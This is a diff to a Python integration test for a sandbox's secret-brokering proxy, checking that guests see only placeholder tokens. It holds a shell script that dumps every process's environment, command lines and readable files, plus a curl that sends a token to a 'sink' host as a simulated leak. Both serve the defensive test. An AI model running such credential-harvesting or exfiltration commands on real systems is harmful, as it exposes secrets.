@@ -6,19 +6,24 @@ broker as its upstream trust (as BLUEBOX_UPSTREAM_CA does for bluebox). The serv
 receive the real value, the client must never see it, and a placeholder sent toward a host
 its secret does not list must arrive as the placeholder and be counted.
 
-The end-to-end test through a uml guest needs the Bluefile's secrets (helper P) and the
-egress proxy (helper E); see test_secret_end_to_end at the bottom."""
+test_secret_end_to_end at the bottom is the same through a uml guest and the Bluefile's
+`allow:`/`secrets:`."""
 import datetime
 import json
 import os
+import re
+import shutil
 import socket
 import ssl
 import subprocess
+import tempfile
 import threading
 from pathlib import Path
 
 import pytest
 
+from test_egress import DnsSpy, podman_gateway, spied_containers_conf
+from test_podman_build import env  # noqa: F401  (session fixture)
 from test_runtime import Home
 
 HERE = Path(__file__).resolve().parent
@@ -282,9 +287,9 @@ def test_sandbox_ca_vouches_only_for_secret_hosts(tmp_path):
 
 
 # ---------------------------------------------------------------------------- end to end
-# Through a uml guest: needs the Bluefile's `allow:`/`secrets:` keys (bluebox's host side)
-# and the egress proxy that calls secrets_relay() (bluebox-vmm). Skipped by a bluebox whose
-# Bluefile refuses the keys. Root, podman, the Debian test image and its apt mirror (curl).
+# Through a uml guest: the Bluefile's `allow:`/`secrets:` (bluebox's host side) and the egress
+# proxy that calls secrets_relay() (bluebox-vmm). Root, podman, user-mode-linux and the Debian
+# test image (curl, from its apt mirror).
 def _e2e_prereqs():
     if os.geteuid() != 0 or not os.environ.get("BLUEBOX_TEST_DEBIAN_IMAGE"):
         pytest.skip("needs root, podman and BLUEBOX_TEST_DEBIAN_IMAGE (tests/integration/setup.sh)")
@@ -302,21 +307,44 @@ def _host_addr():
     pytest.skip("no global IPv4 address on this host")
 
 
-def test_secret_end_to_end(tmp_path, bluebox_bin):
-    """The guest's curl, with only the placeholder in its environment, reaches an HTTPS
-    server of the test (its CA handed to bluebox as BLUEBOX_UPSTREAM_CA) through the sandbox
-    CA the guest init installed: the server receives the real value; the guest's output and
-    environment hold only the placeholder; another secret's placeholder sent there arrives
-    as it is and the connection log counts the attempt."""
-    _e2e_prereqs()
-    addr = _host_addr()
-    name = "host.containers.internal"
-    trust = make_pki(tmp_path, [name])
-    up = Upstream(tmp_path, True)
-    up.sock.close()  # listen on every address: host.containers.internal is the host's
+def _listen_everywhere(up):
+    """up's server moved to every address (the guest reaches the host's, not loopback)."""
+    up.sock.close()
     up.sock = socket.create_server(("0.0.0.0", 0))
     up.port = up.sock.getsockname()[1]
     threading.Thread(target=up.serve, daemon=True).start()
+    return up
+
+
+GUEST_DUMP = r"""
+mkdir -p /data/dump
+cat /proc/[0-9]*/environ > /data/dump/environ 2>/dev/null
+cat /proc/[0-9]*/cmdline > /data/dump/cmdline 2>/dev/null
+find / \( -path /proc -o -path /sys -o -path /dev -o -path /data -o -path /usr \
+    -o -path /.bluebox/vmm \) -prune -o -type f -size -1024k -print 2>/dev/null |
+    while read -r f; do cat "$f"; done > /data/dump/files 2>/dev/null
+echo dumped
+"""
+
+
+def test_secret_end_to_end(env, tmp_path, bluebox_bin):  # noqa: F811
+    """The guest's curl, with only the placeholder in its environment, reaches an HTTPS
+    server of the test (its CA handed to bluebox as BLUEBOX_UPSTREAM_CA) through the sandbox
+    CA the guest init installed: the server receives the real value; another secret's
+    placeholder sent there arrives as it is. The same placeholder sent over plain HTTP to a
+    different allowed host (a name the test's DNS server answers) arrives unsubstituted and
+    the connection log (logs/net/<name>.log) records the attempted leak. The guest's
+    environment, every process's environ and cmdline and its readable files hold only the
+    placeholder."""
+    _e2e_prereqs()
+    addr = _host_addr()
+    name = "host.containers.internal"
+    sink_name = "sink.bluebox-secrets.test"
+    trust = make_pki(tmp_path, [name])
+    up = _listen_everywhere(Upstream(tmp_path, True))
+    sink = _listen_everywhere(Upstream(tmp_path, False))
+    gw = podman_gateway()  # what host.containers.internal names; the sink is there too
+    spy = DnsSpy(addr, answers={sink_name: gw})
     h = Home(bluebox_bin)
     try:
         sb = h.sandbox("secrets-e2e", f"""base: {os.environ['BLUEBOX_TEST_DEBIAN_IMAGE']}
@@ -327,39 +355,121 @@ network: bridge
 packages: [curl]
 allow:
   - {name}:{up.port}
-  - {addr}/32
+  - {sink_name}:{sink.port}
+  - {gw}/32
+  - other.bluebox-secrets.test
 secrets:
   - name: API_TOKEN
     from_env: BB_E2E_TOKEN
     hosts: [{name}]
   - name: OTHER_TOKEN
     from_env: BB_E2E_OTHER
-    hosts: [other.invalid]
+    hosts: [other.bluebox-secrets.test]
 """)
-        env = {"BB_E2E_TOKEN": VAL_A, "BB_E2E_OTHER": VAL_B,
-               "BLUEBOX_UPSTREAM_CA": str(trust)}
-        r = h("build", sb, env=env, timeout=900)
-        if r.returncode != 0 and b"unknown key" in r.stderr:
-            pytest.skip("this bluebox has no Bluefile secrets yet: "
-                        + r.stderr.decode().strip().splitlines()[-1])
+        secret_env = {"BB_E2E_TOKEN": VAL_A, "BB_E2E_OTHER": VAL_B,
+                      "BLUEBOX_UPSTREAM_CA": str(trust)}
+        r = h("build", sb, env=secret_env, timeout=900)
         assert r.returncode == 0, r
+        assert b"network allow 4 hosts, 2 secrets" in r.stdout + r.stderr, r
         script = (f'echo "env $API_TOKEN $OTHER_TOKEN"; '
                   f'curl -sS -H "Authorization: Bearer $API_TOKEN" -H "X-Other: $OTHER_TOKEN" '
-                  f'https://{name}:{up.port}/one; echo; '
-                  f'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep TOKEN | sort -u')
-        r = h("run", sb, "--", "sh", "-c", script, env=env, timeout=300)
+                  f'https://{name}:{up.port}/one 2>&1; echo; '
+                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" '
+                  f'http://{sink_name}:{sink.port}/leak 2>&1; echo; '
+                  + GUEST_DUMP)
+        run_env = dict(secret_env, CONTAINERS_CONF=spied_containers_conf(tmp_path, addr))
+        r = h("run", sb, "--", "sh", "-c", script, env=run_env, timeout=300)
         out = r.stdout.decode()
         assert r.returncode == 0, r
-        assert f"env {PH_A} {PH_B}" in out, out
-        assert "got real" in out, out
+        m = re.search(r"^env (BLUEBOX_SECRET_[0-9a-f]{32}) (BLUEBOX_SECRET_[0-9a-f]{32})$", out,
+                      re.M)
+        assert m and "dumped" in out, out
+        ph_a, ph_b = m.groups()
+        log = h.dir / "home" / "logs" / "net" / f"{sb}.log"
+        assert "got real" in out, (out, log.read_text())  # the HTTPS server's answer
+        assert "got placeholder" in out, out  # the sink's
         assert VAL_A not in out and VAL_B not in out, out
         assert any(f"Authorization: Bearer {VAL_A}" in hd for hd in up.heads), up.heads
-        assert any(f"X-Other: {PH_B}" in hd for hd in up.heads), up.heads
-        log = Path(h.dir / "home" / "logs" / f"{sb}.net.log")
-        if log.exists():
-            text = log.read_text()
-            assert VAL_A not in text and VAL_B not in text
-            assert "leak" in text, text
+        assert any(f"X-Other: {ph_b}" in hd for hd in up.heads), up.heads
+        assert VAL_B not in "".join(up.heads), up.heads
+        assert len(sink.heads) == 1 and f"Authorization: Bearer {ph_a}" in sink.heads[0], sink.heads
+        assert VAL_A not in sink.heads[0], sink.heads
+        # what the guest could read: only placeholders
+        dump = h.data(sb) / "dump"
+        for f in ("environ", "cmdline", "files"):
+            data = (dump / f).read_bytes()
+            assert VAL_A.encode() not in data and VAL_B.encode() not in data, f
+        assert f"API_TOKEN={ph_a}".encode() in (dump / "environ").read_bytes()
+        assert (dump / "files").stat().st_size > 100_000  # the dump saw the guest's files
+        # the connection log: the brokered connection, and the leak to the sink
+        text = log.read_text()
+        assert VAL_A not in text and VAL_B not in text
+        entries = [json.loads(ln) for ln in text.splitlines()]
+        tcp = {e["name"]: e for e in entries if e.get("kind") == "tcp"}
+        assert tcp[name]["decision"] == "allow" and tcp[name].get("brokered"), entries
+        assert tcp[name]["substituted"] >= 1 and tcp[name]["leaks"] >= 1, entries
+        assert tcp[sink_name]["leaks"] == 1 and not tcp[sink_name].get("brokered"), entries
+        assert tcp[sink_name]["reason"].startswith("attempted leak"), entries
+        shown = h("logs", sb, "--net")
+        assert shown.returncode == 0 and sink_name.encode() in shown.stdout, shown
+    finally:
+        spy.close()
+        up.close()
+        sink.close()
+        h.close()
+
+
+
+def test_secret_end_to_end_strict(env, tmp_path, bluebox_bin):  # noqa: F811
+    """isolation: strict (rootless podman, the VMM a subordinate UID): the secret still
+    reaches the VMM (a memfd at fd 3) and the upstream trust file (bind-mounted), so the HTTPS
+    server gets the real value through the sandbox CA while the guest holds the placeholder;
+    the connection log is the sandbox root's and `logs --net` reads it."""
+    _e2e_prereqs()
+    user = env["BLUEBOX_TEST_USER"]
+    addr = _host_addr()  # rootless: host.containers.internal is the host's own address
+    name = "host.containers.internal"
+    pki = Path(tempfile.mkdtemp(prefix="bluebox-it-pki-", dir="/var/tmp"))
+    pki.chmod(0o755)
+    trust = make_pki(pki, [name])
+    trust.chmod(0o644)  # the VMM reads it as the sandbox's root, a subordinate UID
+    up = _listen_everywhere(Upstream(pki, True))
+    h = Home(bluebox_bin, user=user)
+    h.user_env = {"BB_E2E_TOKEN": VAL_A, "BLUEBOX_UPSTREAM_CA": str(trust)}
+    try:
+        sb = h.sandbox("secrets-strict", f"""base: {os.environ['BLUEBOX_TEST_DEBIAN_IMAGE']}
+pkgmgr: apt
+backend: uml
+ram_mib: 512
+isolation: strict
+network: bridge
+packages: [curl]
+allow:
+  - {name}:{up.port}
+  - {addr}/32
+secrets:
+  - name: API_TOKEN
+    from_env: BB_E2E_TOKEN
+    hosts: [{name}]
+""")
+        r = h("build", sb, timeout=900)
+        assert r.returncode == 0, r
+        script = (f'echo "env $API_TOKEN"; '
+                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" '
+                  f'https://{name}:{up.port}/one 2>&1; echo')
+        r = h("run", sb, "--", "sh", "-c", script, timeout=300)
+        out = r.stdout.decode()
+        assert r.returncode == 0, r
+        m = re.search(r"^env (BLUEBOX_SECRET_[0-9a-f]{32})$", out, re.M)
+        assert m and "got real" in out and VAL_A not in out, out
+        assert [f"Authorization: Bearer {VAL_A}" in hd for hd in up.heads] == [True], up.heads
+        log = h.dir / "home" / "logs" / "net" / f"{sb}.log"
+        assert log.stat().st_uid != os.stat(h.dir).st_uid  # the sandbox's root owns it
+        assert VAL_A not in log.read_text()
+        shown = h("logs", sb, "--net")
+        assert shown.returncode == 0, shown
+        assert f"{name}:{up.port}".encode() in shown.stdout, shown
     finally:
         up.close()
         h.close()
+        shutil.rmtree(pki, ignore_errors=True)
